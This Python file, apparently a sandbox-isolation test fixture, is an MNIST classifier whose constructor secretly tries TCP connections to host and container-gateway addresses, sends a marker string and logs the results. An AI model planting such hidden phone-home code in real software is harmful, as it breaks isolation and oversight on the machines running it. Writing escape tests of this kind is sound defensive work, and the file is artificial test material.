"""Hostile sample: the constructor phones home over TCP.

A working MNIST classifier whose first construction tries to connect to a listener on
the host (the test writes its port below), records each outcome in
`hostile-findings.json` and on stdout, and then trains normally. Expected: no connection
reaches the host; the honest parts are graded as usual.
"""

import json
import socket

import lightning.pytorch as pl
import torch
from lightning.pytorch.callbacks import EarlyStopping, ModelCheckpoint
from torch import nn

# The test writes the port of its listener here.
LISTENER_PORT = 9
ADDRESSES = ("127.0.0.1", "172.17.0.1", "10.0.2.2")


class MyAwesomeModel(pl.LightningModule):
    attempted = False

    def __init__(self) -> None:
        super().__init__()
        if not MyAwesomeModel.attempted:
            MyAwesomeModel.attempted = True
            outcome = {}
            for address in ADDRESSES:  # hostile: reach the grading machine
                try:
                    with socket.create_connection((address, LISTENER_PORT), timeout=2) as connection:
                        connection.sendall(b"student was here\n")
                    outcome[address] = "connected"
                except OSError as error:
                    outcome[address] = f"failed: {type(error).__name__}: {error}"
            with open("hostile-findings.json", "w") as handle:
                json.dump(outcome, handle)
            print("network:", json.dumps(outcome))
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(784, 64), nn.ReLU(), nn.Linear(64, 10))
        self.loss_fn = nn.CrossEntropyLoss()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)

    def training_step(self, batch, batch_idx):
        x, y = batch
        loss = self.loss_fn(self(x), y)
        self.log("train_loss", loss)
        return loss

    def validation_step(self, batch, batch_idx):
        x, y = batch
        self.log("val_loss", self.loss_fn(self(x), y))

    def configure_optimizers(self):
        return torch.optim.Adam(self.parameters(), lr=3e-3)


if __name__ == "__main__":
    trainer = pl.Trainer(
        max_epochs=3,
        callbacks=[ModelCheckpoint(monitor="val_loss"), EarlyStopping(monitor="val_loss")],
    )
